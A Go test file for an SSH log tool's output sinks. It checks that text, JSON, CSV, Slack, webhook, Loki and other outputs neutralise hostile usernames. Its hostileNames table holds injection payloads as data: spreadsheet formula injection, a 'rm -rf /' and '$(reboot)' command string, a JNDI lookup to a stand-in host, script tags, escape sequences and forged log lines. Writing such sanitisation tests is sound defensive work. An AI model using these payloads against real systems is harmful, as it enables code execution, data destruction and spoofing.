package sinks_test

import (
	"bufio"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"io"
	"net/http"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/sshwhy/sshwhy"
	"github.com/sshwhy/sshwhy/causes"
	"github.com/sshwhy/sshwhy/lang"
	"github.com/sshwhy/sshwhy/ledger"
	"github.com/sshwhy/sshwhy/patterns"
	"github.com/sshwhy/sshwhy/sinks"
)

// hostileNames are what somebody can log in as who means harm to whoever reads
// of it: a name of a user, and with sshd -u0 and a name server of one's own that
// of a client, are free text.
var hostileNames = map[string]string{
	"a call to the whole channel": "<!channel> <@U0000> @everyone @here",
	"a link":                      "<https://evil.example/|your bank> [x](https://evil.example/)",
	"markup":                      "*bold* _it_ ~gone~ `code` ```block```",
	"64 KiB":                      strings.Repeat("A", 64<<10),
	"64 KiB of wide characters":   strings.Repeat("𠮷", 16<<10),
	"line ends":                   "bob\nNov 22 15:35:56 edge05 sshd[1]: Accepted password for root from 203.0.113.1 port 1 ssh2\r\n",
	"other line ends":             "bob\u2028root\u2029root\u0085root\vroot\f",
	"right to left":               "\u202egnp.exe\u2066\u200b\ufeff",
	"escape sequences":            "\x1b[2J\x1b]0;title\x07\x1b]8;;https://evil.example\x1b\\x\u009b31m",
	"a formula":                   "=cmd|' /C calc'!A0",
	"another formula":             "@SUM(1+1)*cmd|' /C calc'!A0",
	"a formula behind a tab":      "\t=1+1",
	"a formula in wide letters":   "＝1+1",
	"a command":                   `"; rm -rf / #'$(reboot)` + "`reboot`" + `\`,
	"an end of string":            "bob\x00root",
	"no UTF-8":                    "\xff\xfe\xc0\xaf\xed\xa0\x80",
	"a script":                    `</script><script>alert(1)</script><img src=x onerror=alert(2)>`,
	"a template":                  "{{.Event}} ${jndi:ldap://evil.example/a} %s%n",
	"JSON":                        `","outcome":"accepted","x":{"`,
}

// hostileFinding has the name wherever a client has a say.
func hostileFinding(c *causes.Catalogue, name string) *sshwhy.Finding {
	line := []byte("Nov 22 15:35:56 edge05 sshd[7]: Failed password for " + name + " from " + name + " port 7 ssh2")
	return &sshwhy.Finding{
		Identity: sshwhy.Identity{Host: []byte(name), PID: 7, Time: noon, First: line}, Revision: 1, Outcome: sshwhy.OutcomeRefused, Cause: c.Find("bad-ownership-or-modes"), Confidence: sshwhy.ConfidenceCertain,
		Start: noon, End: noon, Ident: []byte("sshd"), User: []byte(name), UserKnown: true, Address: []byte(name), Port: 7, Method: []byte(name), KeyType: []byte(name), Fingerprint: []byte(name),
		Values: []sshwhy.Value{{Field: sshwhy.FieldPath, Text: "/home/" + name}, {Field: sshwhy.FieldUser, Text: name}}, Evidence: []sshwhy.Evidence{{Text: line}}, Decisive: 0, Source: name,
	}
}

func hostileAlert(c *causes.Catalogue, name string) *sshwhy.Alert {
	one := []sshwhy.Counted{{Value: name, Count: 3}}
	return &sshwhy.Alert{
		ID: "0123456789abcdef", Revision: 1, Rule: name, News: sshwhy.NewsFiring, By: []sshwhy.Shared{{Name: "user", Value: name}}, Causes: []sshwhy.CauseID{c.Find("bad-ownership-or-modes")},
		Findings: 3, Since: noon, Until: noon + 60e9, Users: one, NumUsers: 1, Sources: one, NumSources: 1, Hosts: one, NumHosts: 1, Latest: hostileFinding(c, name),
		Notice: &sshwhy.Notice{Code: "lines-lost", Source: name, Text: "lines of " + name + " may be lost", Hint: "see " + name},
	}
}

// posted sends what an encoder wrote to a server and gives the bodies that came.
func posted(t *testing.T, e sinks.Encoder, c *causes.Catalogue, name string, make func(address string) sinks.Deliverer) []byte {
	t.Helper()
	var bodies []byte
	at := server(t, func(w http.ResponseWriter, r *http.Request) {
		body, err := io.ReadAll(r.Body)
		if err != nil {
			t.Error(err)
		}
		bodies = append(append(bodies, body...), '\n')
		_, _ = io.WriteString(w, `{"ok":true,"channel":"C","ts":"1.2"}`)
	})
	d := make(at)
	for _, it := range hostileItems(t, e, c, name) {
		if sent := d.Send(context.Background(), []ledger.Item{it}, memory{}); sent.Err != nil || len(sent.Refused) > 0 || sent.Done != 1 {
			t.Fatalf("%+v", sent)
		}
	}
	return bodies
}

func hostileItems(t *testing.T, e sinks.Encoder, c *causes.Catalogue, name string) (list []ledger.Item) {
	t.Helper()
	f, err := e.AppendFinding(nil, hostileFinding(c, name))
	if err != nil {
		t.Fatal(err)
	}
	a, err := e.AppendAlert(nil, hostileAlert(c, name))
	if err != nil {
		t.Fatal(err)
	}
	for i, body := range [][]byte{f, a} {
		if len(body) > 0 {
			list = append(list, ledger.Item{ID: []string{"f", "a"}[i], Revision: 1, Kind: []string{ledger.KindFinding, ledger.KindAlert}[i], Body: body})
		}
	}
	return list
}

// TestHostileNames: whatever somebody is called, every output shows text and
// nothing else.
func TestHostileNames(t *testing.T) {
	c := loadCauses(t)
	messages, err := patterns.Load()
	if err != nil {
		t.Fatal(err)
	}
	words := lang.For(causes.English)
	sink := func(make func(w *bufio.Writer) sshwhy.Sink) func(*testing.T, string) []byte {
		return func(t *testing.T, name string) []byte {
			var out bytes.Buffer
			w := bufio.NewWriter(&out)
			s := make(w)
			if err := s.Deliver(hostileFinding(c, name)); err != nil {
				t.Fatal(err)
			}
			if f, ok := s.(sshwhy.Flusher); ok {
				if err := f.Flush(); err != nil {
					t.Fatal(err)
				}
			}
			if err := w.Flush(); err != nil {
				t.Fatal(err)
			}
			return out.Bytes()
		}
	}
	text := sinks.TextOptions{Zone: time.UTC, Width: 100}
	p := poster(t)
	outputs := []struct {
		name  string
		write func(*testing.T, string) []byte
		check func(*testing.T, []byte)
	}{
		{"text", sink(func(w *bufio.Writer) sshwhy.Sink { return sinks.NewText(w, c, words, text) }), shownText},
		{"live", sink(func(w *bufio.Writer) sshwhy.Sink {
			return sinks.NewLive(w, c, messages, words, sinks.LiveOptions{TextOptions: text})
		}), shownText},
		{"jsonl", sink(func(w *bufio.Writer) sshwhy.Sink { return sinks.NewJSONL(w, c, causes.English) }), jsonText},
		{"ocsf", sink(func(w *bufio.Writer) sshwhy.Sink { return sinks.NewOCSF(w, c, causes.English) }), jsonText},
		{"csv", sink(func(w *bufio.Writer) sshwhy.Sink { return sinks.NewCSV(w, c, causes.English) }), csvText},
		{"timesketch", sink(func(w *bufio.Writer) sshwhy.Sink { return sinks.NewTimesketch(w, c, causes.English) }), csvText},
		{"webhook", func(t *testing.T, name string) []byte {
			return posted(t, sinks.NewJSON(c, causes.English), c, name, func(at string) sinks.Deliverer {
				w, err := sinks.NewWebhook(p, sinks.WebhookOptions{URL: at})
				if err != nil {
					t.Fatal(err)
				}
				return w
			})
		}, jsonText},
		{"webhook with a template", func(t *testing.T, name string) []byte {
			return posted(t, sinks.NewJSON(c, causes.English), c, name, func(at string) sinks.Deliverer {
				w, err := sinks.NewWebhook(p, sinks.WebhookOptions{URL: at, Template: `{"all": {{json .}}}`})
				if err != nil {
					t.Fatal(err)
				}
				return w
			})
		}, jsonText},
		{"slack", func(t *testing.T, name string) []byte {
			return posted(t, sinks.NewSlackBlocks(c, causes.English, time.UTC), c, name, func(at string) sinks.Deliverer {
				return sinks.NewSlack(sinks.SlackOptions{Token: "xoxb-0000", Channel: "C", API: address(t, at), Poster: p})
			})
		}, slackText},
		{"slack's webhook", func(t *testing.T, name string) []byte {
			return posted(t, sinks.NewSlackBlocks(c, causes.English, time.UTC), c, name, func(at string) sinks.Deliverer {
				return sinks.NewSlack(sinks.SlackOptions{URL: address(t, at), Poster: p})
			})
		}, slackText},
		{"alertmanager", func(t *testing.T, name string) []byte {
			return posted(t, sinks.NewAlertmanagerLines(c, causes.English), c, name, func(at string) sinks.Deliverer {
				return sinks.NewAlertmanager(sinks.AlertmanagerOptions{URL: address(t, at), Poster: p})
			})
		}, jsonText},
		{"loki", func(t *testing.T, name string) []byte {
			u, got, _ := lokiServer(t, nil)
			d := sinks.NewLoki(sinks.LokiOptions{URL: u, Job: "sshwhy", Poster: p})
			for _, it := range hostileItems(t, sinks.NewLokiLines(c, causes.English), c, name) {
				if sent := d.Send(context.Background(), []ledger.Item{it}, memory{}); sent.Err != nil || len(sent.Refused) > 0 {
					t.Fatalf("%+v", sent)
				}
			}
			var out []byte
			for _, e := range *got {
				if !utf8.ValidString(e.labels) || strings.ContainsAny(e.labels, "\n\x1b") {
					t.Errorf("labels %q", e.labels)
				}
				out = append(append(out, e.line...), '\n')
			}
			return out
		}, shownText},
		{"services", func(t *testing.T, name string) (out []byte) {
			for _, it := range hostileItems(t, sinks.NewPlainText(c, causes.English, time.UTC), c, name) {
				if n := utf8.RuneCount(it.Body); n > 2000 { // Discord's limit
					t.Errorf("a message of %d characters", n)
				}
				out = append(append(out, it.Body...), '\n')
			}
			for _, bad := range []string{"<!", "<@", "@everyone", "@here", "@channel", "](http", "`", "<https"} {
				if bytes.Contains(out, []byte(bad)) {
					t.Errorf("there is %q in %.500q", bad, out)
				}
			}
			return bytes.ReplaceAll(out, []byte("\u200b"), nil) // ours
		}, shownText},
	}
	for _, o := range outputs {
		for what, name := range hostileNames {
			t.Run(o.name+"/"+what, func(t *testing.T) {
				out := o.write(t, name)
				if len(out) == 0 {
					t.Fatal("nothing was written")
				}
				o.check(t, out)
			})
		}
	}
}

// shownText is text for people: every character has a shape of its own, and no
// line was forged.
func shownText(t *testing.T, out []byte) {
	t.Helper()
	for line := range strings.Lines(string(out)) {
		line = strings.TrimSuffix(line, "\n")
		if got := sshwhy.Printable(line); got != line {
			t.Errorf("a line would move a cursor or hide text: %.300q", line)
		}
		if strings.HasPrefix(line, "Nov 22 15:35:56 edge05 sshd[1]") || strings.HasPrefix(line, "root") {
			t.Errorf("a line was forged: %.300q", line)
		}
	}
}

// jsonText is JSON a line, without a byte that a terminal or a page would obey,
// and without a key of the client's.
func jsonText(t *testing.T, out []byte) {
	t.Helper()
	if !utf8.Valid(out) || bytes.ContainsAny(out, "\x00\x07\x0b\x0c\x1b\r\x7f") || bytes.ContainsAny(out, "<>") {
		t.Errorf("there are bytes that stand for themselves: %.300q", out)
	}
	for line := range bytes.Lines(out) {
		var v any
		if err := json.Unmarshal(line, &v); err != nil {
			t.Fatalf("%v: %.300q", err, line)
		}
		var walk func(v any)
		walk = func(v any) {
			switch v := v.(type) {
			case map[string]any:
				if _, ok := v["x"]; ok {
					t.Errorf("a key was forged: %.300q", line)
				}
				for _, e := range v {
					walk(e)
				}
			case []any:
				for _, e := range v {
					walk(e)
				}
			}
		}
		walk(v)
	}
}

// csvText has a line a finding, and no cell that a spreadsheet would take for a
// formula.
func csvText(t *testing.T, out []byte) {
	t.Helper()
	if n := bytes.Count(out, []byte("\n")); n != 2 {
		t.Errorf("%d lines, not 2", n)
	}
	rows, err := csv.NewReader(bytes.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r＝＋－＠", []rune(cell)[0]) || cell != sshwhy.Printable(cell) {
				t.Errorf("a cell is %.100q", cell)
			}
		}
	}
}

// slackText is a message as Slack documents it, in which what a client wrote
// stands where Slack reads no markup.
func slackText(t *testing.T, out []byte) {
	t.Helper()
	for line := range bytes.Lines(out) {
		var m map[string]any
		if err := json.Unmarshal(line, &m); err != nil {
			t.Fatalf("%v: %.300q", err, line)
		}
		(&workspace{t: t}).limits(m)
		if m["link_names"] != false {
			t.Error("link_names is not off")
		}
		var walk func(v any)
		walk = func(v any) {
			switch v := v.(type) {
			case map[string]any:
				if text, ok := v["text"].(string); ok && v["type"] != nil {
					if n := utf8.RuneCountInString(text); n == 0 || n > 3000 {
						t.Errorf("a text of %d characters", n)
					}
					for part := range strings.Lines(text) {
						if part = strings.TrimSuffix(part, "\n"); part != sshwhy.Printable(part) {
							t.Errorf("a text would hide something: %.300q", part)
						}
					}
				}
				for _, e := range v {
					walk(e)
				}
			case []any:
				for _, e := range v {
					walk(e)
				}
			}
		}
		walk(m)
	}
}
